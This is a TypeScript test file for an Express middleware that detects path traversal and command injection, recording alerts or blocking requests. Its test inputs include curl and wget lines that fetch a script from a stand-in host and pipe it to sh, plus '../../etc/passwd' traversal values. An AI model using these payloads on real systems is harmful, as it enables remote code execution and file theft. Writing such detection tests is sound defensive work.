import express from 'express';
import { afterEach, describe, expect, it } from 'vitest';
import { type Alert, AnomalyMonitor, type RequestGuardOptions, requestGuard } from '../../src/index.js';
import { serveApp } from './serve-app.js';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

async function guardedApp(options: RequestGuardOptions = {}, trustProxy: boolean | string = false) {
  const monitor = new AnomalyMonitor();
  const alerts: Alert[] = [];
  monitor.onAlert((alert) => {
    alerts.push(alert);
  });
  const app = express();
  app.set('trust proxy', trustProxy);
  app.use(express.json());
  app.use(requestGuard(monitor, options));
  app.use((_req, res) => {
    res.json({ ok: true });
  });
  const server = await serveApp(app);
  cleanups.push(server.close);
  return { monitor, alerts, url: server.url };
}

describe('request guard', () => {
  it('lets ordinary requests through without recording anything', async () => {
    const { url, alerts } = await guardedApp();
    const response = await fetch(`${url}/files/report.pdf?q=Tom%20%26%20Jerry&sort=asc`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'rock and roll', tags: ['a', 'b'] }),
    });
    expect(response.status).toBe(200);
    expect(alerts).toEqual([]);
  });

  it('records path traversal in a query value and lets it through in record mode', async () => {
    const { url, alerts } = await guardedApp();
    const response = await fetch(`${url}/download?file=..%2F..%2Fetc%2Fpasswd`);
    expect(response.status).toBe(200);
    expect(alerts.map((a) => [a.type, a.sourceIp, a.metadata?.path])).toEqual([
      ['path_traversal', '127.0.0.1', '../../etc/passwd'],
    ]);
  });

  it('records command injection in a JSON body value', async () => {
    const { url, alerts } = await guardedApp();
    await fetch(`${url}/jobs`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        job: { name: 'nightly', args: ['--out', 'x; curl -s http://203.0.113.9/p.sh | sh'] },
      }),
    });
    expect(alerts.map((a) => a.type)).toEqual(['command_injection']);
    expect(alerts[0]!.metadata?.input).toBe('x; curl -s http://203.0.113.9/p.sh | sh');
  });

  it('inspects selected headers', async () => {
    const { url, alerts } = await guardedApp();
    await fetch(`${url}/`, { headers: { 'user-agent': 'curl/8.0; wget -qO- http://203.0.113.9/x | sh' } });
    expect(alerts.map((a) => a.type)).toEqual(['command_injection']);
  });

  it('blocks with 400 naming the field in block mode, without echoing the input', async () => {
    const { url, alerts } = await guardedApp({ mode: 'block' });
    const response = await fetch(`${url}/download?file=..%2F..%2Fetc%2Fpasswd`);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: string; field: string };
    expect(body).toEqual({
      error: 'request rejected: path traversal detected in query.file',
      field: 'query.file',
    });
    expect(alerts).toHaveLength(1);
  });

  it('records at most one alert of each kind per request', async () => {
    const { url, alerts } = await guardedApp();
    await fetch(`${url}/x?a=../../a&b=../../b&c=;id&d=;ls`);
    expect(alerts.map((a) => a.type).sort()).toEqual(['command_injection', 'path_traversal']);
  });

  it('takes the client address from req.ip, so trust proxy decides about X-Forwarded-For', async () => {
    const untrusting = await guardedApp();
    await fetch(`${untrusting.url}/x?f=../../etc/passwd`, { headers: { 'x-forwarded-for': '203.0.113.50' } });
    expect(untrusting.alerts[0]!.sourceIp).toBe('127.0.0.1');

    const trusting = await guardedApp({}, 'loopback');
    await fetch(`${trusting.url}/x?f=../../etc/passwd`, { headers: { 'x-forwarded-for': '203.0.113.50' } });
    expect(trusting.alerts[0]!.sourceIp).toBe('203.0.113.50');
  });

  it('bounds the work per request with maxValues', async () => {
    const { url, alerts } = await guardedApp({ maxValues: 5 });
    const query = Array.from({ length: 50 }, (_, i) => `p${i}=ok`).join('&');
    await fetch(`${url}/x?${query}&evil=../../etc/passwd`);
    expect(alerts).toEqual([]);
  });

  it('rejects an invalid mode at construction', () => {
    expect(() => requestGuard(new AnomalyMonitor(), { mode: 'deny' as never })).toThrow(
      /requestGuard\.mode must be one of "record", "block" \(got "deny"\)/,
    );
  });
});
